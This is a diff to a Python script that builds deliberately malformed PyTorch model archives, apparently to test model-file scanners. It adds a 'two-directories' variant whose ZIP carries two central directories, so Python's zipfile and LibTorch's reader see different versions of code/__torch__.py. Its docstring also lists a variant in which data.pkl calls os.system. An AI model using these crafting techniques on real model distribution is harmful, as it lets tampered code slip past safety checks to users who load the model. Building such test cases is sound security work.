@@ -16,11 +16,14 @@ VARIANT:
   legacy          a model.json record is added (PyTorch 1.0's legacy format, another parser)
   case-twin       a second data.pkl whose name differs only in case
   foreign-global  data.pkl calls os.system
+  two-directories the end record lists the real records, a ZIP64 end record (which LibTorch's zip
+                  reader follows) the same names with code/__torch__.py holding a method
 """
 import pickletools
 import struct
 import sys
 import zipfile
+import zlib
 
 
 def records(path):
@@ -86,8 +89,45 @@ def craft(items, variant):
     return out
 
 
+def local_entry(name, data):
+    n = name.encode()
+    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(n), 0) + n + data
+
+
+def central_entry(name, data, offset):
+    n = name.encode()
+    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
+                       len(n), 0, 0, 0, 0, 0, offset) + n
+
+
+def two_directories(items):
+    """The records, then directory A (the end record's) of them as they are and directory B (the
+    ZIP64 end record's) with code/__torch__.py replaced by a second entry of the same name."""
+    code = [name for name, _ in items if name.endswith("/code/__torch__.py")][0]
+    evil = dict(items)[code] + b"  def __setstate__(self, state: Tuple[int]) -> None:\n    return None\n"
+    body, offsets = b"", []
+    for name, data in items + [(code, evil)]:
+        offsets.append(len(body))
+        body += local_entry(name, data)
+    a = b"".join(central_entry(name, data, offsets[i]) for i, (name, data) in enumerate(items))
+    b = b"".join(central_entry(name, evil if name == code else data, offsets[-1] if name == code else offsets[i])
+                 for i, (name, data) in enumerate(items))
+    a_at, b_at = len(body), len(body) + len(a)
+    body += a + b
+    zip64_at = len(body)
+    count = len(items)
+    body += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(b), b_at)
+    body += struct.pack("<IIQI", 0x07064B50, 0, zip64_at, 1)
+    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(a), a_at, 0)
+    return body
+
+
 def main():
     source, target, variant = sys.argv[1:4]
+    if variant == "two-directories":
+        with open(target, "wb") as out:
+            out.write(two_directories(records(source)))
+        return
     items = craft(records(source), variant)
     with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as z:
         for name, data in items:
